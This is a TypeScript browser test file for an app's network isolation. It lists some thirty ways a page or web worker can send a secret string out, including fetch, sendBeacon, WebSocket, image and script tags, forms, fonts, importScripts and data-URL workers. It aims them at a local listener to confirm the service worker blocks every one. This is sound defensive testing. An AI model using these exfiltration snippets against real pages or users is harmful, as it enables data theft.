/** @file The gates to the network, tried from inside: a page and workers that do their best to leak. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page, Worker } from 'playwright';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { dropFiles, launchThrifty, openPage, useDist, waitForRun } from '../browser';
import { PageChatServer } from '../teachers/chat-server';

const SECRET = 'a-secret-text';
const TABLE = `text\n${Array.from({ length: 12 }, (_, i) => `an apple ${i}`).join('\n')}\n`;

/** Hears whatever arrives, by any way, and lets everybody read it. */
const heard: string[] = [];
const listener = createServer((request, response) => {
  heard.push(`${request.method} ${request.url}`);
  response.writeHead(200, {
    'Access-Control-Allow-Origin': '*',
    'Content-Type': 'text/javascript',
  });
  response.end('export default 1;');
});
listener.on('connection', (socket) => heard.push(`connection ${socket.remotePort ?? ''}`));
let target: string;

beforeAll(async () => {
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  target = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/?${SECRET}`;
});
afterAll(() => {
  listener.closeAllConnections();
  listener.close();
});

/** Tried in the page. Each is a script that ends when its attempt has ended. */
const PAGE_LEAKS = new Map([
  ['fetch', 'await fetch(target)'],
  ['fetch without CORS', 'await fetch(target, { mode: "no-cors" })'],
  ['sendBeacon', 'navigator.sendBeacon(target, "x")'],
  [
    'XMLHttpRequest',
    'await new Promise((r) => { const x = new XMLHttpRequest(); x.onloadend = r; x.open("GET", target); x.send(); })',
  ],
  [
    'WebSocket',
    'await new Promise((r) => { new WebSocket(target.replace("http", "ws")).onerror = r; })',
  ],
  ['EventSource', 'await new Promise((r) => { new EventSource(target).onerror = r; })'],
  [
    'an image',
    'await new Promise((r) => { const i = new Image(); i.onload = i.onerror = r; i.src = target; })',
  ],
  [
    'a style sheet',
    'await new Promise((r) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = target; l.onload = l.onerror = r; document.head.append(l); })',
  ],
  [
    'a script',
    'await new Promise((r) => { const s = document.createElement("script"); s.src = target; s.onload = s.onerror = r; document.head.append(s); })',
  ],
  ['an imported script', 'await import(target)'],
  [
    'a frame',
    'await new Promise((r) => { const f = document.createElement("iframe"); f.src = target; f.onload = r; document.body.append(f); setTimeout(r, 500); })',
  ],
  [
    'a form',
    'const o = document.createElement("iframe"); o.name = "out"; document.body.append(o); const f = document.createElement("form"); f.action = target; f.method = "post"; f.target = "out"; document.body.append(f); f.submit(); await new Promise((r) => setTimeout(r, 300));',
  ],
  ['a font', 'await new FontFace("x", `url(${target})`).load()'],
  [
    'a worker that was written here',
    'await new Promise((r) => { new Worker(URL.createObjectURL(new Blob([`fetch("${target}")`]))).onerror = r; setTimeout(r, 500); })',
  ],
  ['Cache.add', 'await (await caches.open("leak")).add(target)'],
]);

/** Tried in a worker at work. */
const WORKER_LEAKS = new Map([
  ['fetch', 'await fetch(target)'],
  ['fetch without CORS', 'await fetch(target, { mode: "no-cors" })'],
  ['fetch of the prototype', 'await WorkerGlobalScope.prototype.fetch.call(self, target)'],
  ['a POST', 'await fetch(target, { method: "POST", body: "x" })'],
  ['XMLHttpRequest', 'const x = new XMLHttpRequest(); x.open("GET", target, false); x.send();'],
  [
    'WebSocket',
    'await new Promise((r) => { new WebSocket(target.replace("http", "ws")).onerror = r; })',
  ],
  ['EventSource', 'await new Promise((r) => { new EventSource(target).onerror = r; })'],
  ['WebTransport', 'await new WebTransport(target.replace("http", "https")).ready'],
  ['importScripts', 'importScripts(target)'],
  ['Cache.add', 'await (await caches.open("leak")).add(target)'],
  ['Cache.addAll', 'await (await caches.open("leak")).addAll([target])'],
  ['a font', 'await new FontFace("x", `url(${target})`).load()'],
  [
    'a worker that was written here',
    'await new Promise((r) => { new Worker(URL.createObjectURL(new Blob([`fetch("${target}")`]))).onmessage = r; setTimeout(r, 500); })',
  ],
  [
    'a worker as an address',
    'await new Promise((r) => { new Worker(`data:text/javascript,fetch("${target}")`).onmessage = r; setTimeout(r, 500); })',
  ],
  ['a worker from elsewhere', 'new Worker(target)'],
  ['the border put back', 'delete self.fetch; self.fetch = undefined; await fetch(target)'],
]);
/** Only the policy of the worker, which the service worker brings, stops this one. */
const SCRIPT_LEAKS = new Map([['an imported script', 'await import(target)']]);

async function tryLeak(place: Page | Worker, script: string): Promise<void> {
  heard.length = 0;
  const body = `(async () => { const target = ${JSON.stringify(target)}; ${script} })().catch(() => {})`;
  await (place as Page).evaluate(body);
  // What was on its way has arrived by the end of a way there and back.
  await fetch(target.replace(SECRET, 'end'));
}

test('every way out is one: from a page without gates the text arrives', async () => {
  const browser = await launchThrifty();
  const page = await browser.newPage();
  await page.goto(target.replace(SECRET, 'page'));
  for (const [way, script] of PAGE_LEAKS) {
    await tryLeak(page, script);
    // A beacon is sent when the browser has time for it.
    await expect.poll(() => [way, leaked().length > 0], { timeout: 10_000 }).toEqual([way, true]);
  }
  await browser.close();
});

const leaked = () => heard.filter((line) => line.includes(SECRET));

describe.each([
  ['with its service worker', 'allow'],
  ['without a service worker', 'block'],
] as const)('a page %s', (_, serviceWorkers) => {
  const dist = useDist({ gpu: true });
  const servers: PageChatServer[] = [];
  let context: BrowserContext;

  afterEach(async () => {
    await context.close();
    for (const server of servers.splice(0)) await server.stop();
  });

  async function openControlled(): Promise<Page> {
    context = await dist.browser.newContext({ serviceWorkers });
    const { page } = await openPage(context, dist.url);
    if (serviceWorkers === 'allow') {
      await page.waitForSelector('[data-testid=kept][data-whole=true]');
      expect(await page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
    }
    return page;
  }

  test('lets nothing out by itself', async () => {
    const page = await openControlled();
    for (const [way, script] of PAGE_LEAKS) {
      await tryLeak(page, script);
      expect([way, leaked()]).toEqual([way, []]);
    }
  });

  test('lets nothing out of a worker to a host that was not allowed', async () => {
    const server = new PageChatServer(() => ['fruit']);
    servers.push(server);
    server.answersAtMost = 0;
    const url = await server.start();
    const page = await openControlled();
    const recipe = {
      shortlist: 1,
      task: { textColumn: 'text', labels: [{ name: 'fruit' }, { name: 'tools' }] },
      teacher: { kind: 'endpoint', url, model: 'm' },
    };
    await dropFiles(page, { 'table.csv': TABLE, 'my.recipe.json': JSON.stringify(recipe) });
    await page.click('[data-testid=allow-network]');
    await waitForRun(page, 'running', 'annotate');
    await expect.poll(() => server.asked.length).toBeGreaterThan(0);
    const [worker] = page.workers();
    if (!worker) throw new Error('No worker is at work.');
    const leaks = [...WORKER_LEAKS, ...(serviceWorkers === 'allow' ? SCRIPT_LEAKS : [])];
    for (const [way, script] of leaks) {
      await tryLeak(worker, script);
      expect([way, leaked()]).toEqual([way, []]);
    }
  });
});
